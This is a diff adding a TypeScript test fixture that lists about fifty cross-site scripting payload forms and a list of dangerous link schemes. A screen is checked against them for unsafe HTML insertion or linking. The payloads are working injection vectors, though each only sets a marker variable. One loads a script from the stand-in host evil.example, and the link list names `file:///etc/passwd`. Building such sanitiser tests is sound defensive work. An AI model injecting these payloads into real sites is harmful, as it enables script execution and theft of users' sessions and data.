@@ -1,0 +1,71 @@
+/** Texts that run code where a screen inserts them as HTML or follows them as a link. Each sets `ran` to its number. */
+const forms: ((run: string) => string)[] = [
+  (run) => `<script>${run}</script>`,
+  (run) => `<script src="data:text/javascript,${run}"></script>`,
+  (run) => `</script><script>${run}</script>`,
+  (run) => `<ScRiPt>${run}</sCrIpT>`,
+  (run) => `<script type="module">${run}</script>`,
+  (run) => `<img src=x onerror="${run}">`,
+  (run) => `<img src=x onerror=${run}>`,
+  (run) => `<img/src=x/onerror=${run}>`,
+  (run) => `<IMG SRC=x OnErRoR="${run}">`,
+  (run) => `"><img src=x onerror="${run}">`,
+  (run) => `'><img src=x onerror='${run}'>`,
+  (run) => `--><img src=x onerror="${run}"><!--`,
+  (run) => `</title><img src=x onerror="${run}">`,
+  (run) => `</textarea><img src=x onerror="${run}">`,
+  (run) => `</style><img src=x onerror="${run}">`,
+  (run) => `<svg onload="${run}">`,
+  (run) => `<svg><script>${run}</script></svg>`,
+  (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
+  (run) => `<svg><a xlink:href="javascript:${run}"><text y="20">a</text></a></svg>`,
+  (run) => `<math><mi xlink:href="javascript:${run}">a</mi></math>`,
+  (run) =>
+    `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
+  (run) => `<noscript><p title="</noscript><img src=x onerror='${run}'>"></noscript>`,
+  (run) => `<body onload="${run}">`,
+  (run) => `<input autofocus onfocus="${run}">`,
+  (run) => `<details open ontoggle="${run}">a</details>`,
+  (run) => `<video><source onerror="${run}"></video>`,
+  (run) => `<audio src=x onerror="${run}"></audio>`,
+  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
+  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  (run) => `<object data="data:text/html,<script>top.${run}</script>"></object>`,
+  (run) => `<embed src="data:image/svg+xml,<svg onload='${run}'/>">`,
+  (run) => `<form><button formaction="javascript:${run}">a</button></form>`,
+  (run) => `<a href="javascript:${run}">a</a>`,
+  (run) => `<a href=" java\tscript:${run}">a</a>`,
+  (run) => `<a href="&#106;avascript:${run}">a</a>`,
+  (run) => `<a href="data:text/html,<script>${run}</script>">a</a>`,
+  (run) =>
+    `<div style="animation:a 1s;background:url(javascript:${run})" onanimationstart="${run}">a</div>`,
+  (run) => `<link rel=stylesheet href="data:text/css,*{}" onload="${run}">`,
+  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
+  (run) =>
+    `<base href="https://evil.example/"><script src="a.js"></script>`.replace(
+      'a.js',
+      `a.js?${run}`,
+    ),
+  (run) => `<template><img src=x onerror="${run}"></template>`,
+  (run) => `<xss contenteditable onbeforeinput="${run}" id=x tabindex=1 onfocus="${run}">a</xss>`,
+  (run) => `{{constructor.constructor('${run}')()}}`,
+  (run) => `\${${run}}`,
+  (run) => `javascript:${run}`,
+  (run) => `&lt;img src=x onerror=&quot;${run}&quot;&gt;`,
+  (run) => `%3Cimg%20src%3Dx%20onerror%3D%22${run}%22%3E`,
+  (run) => `\u202e<img src=x onerror="${run}">\u0000`.replace('\u0000', ''),
+]
+
+export const payloads = forms.map((form, number) => form(`ran=${number + 1}`))
+
+/** Addresses that a screen must never make a link. */
+export const badLinks = [
+  'javascript:ran=1',
+  'JaVaScRiPt:ran=1',
+  ' javascript:ran=1',
+  'java\nscript:ran=1',
+  'data:text/html,<script>ran=1</script>',
+  'vbscript:ran=1',
+  'blob:https://evil.example/1',
+  'file:///etc/passwd',
+]
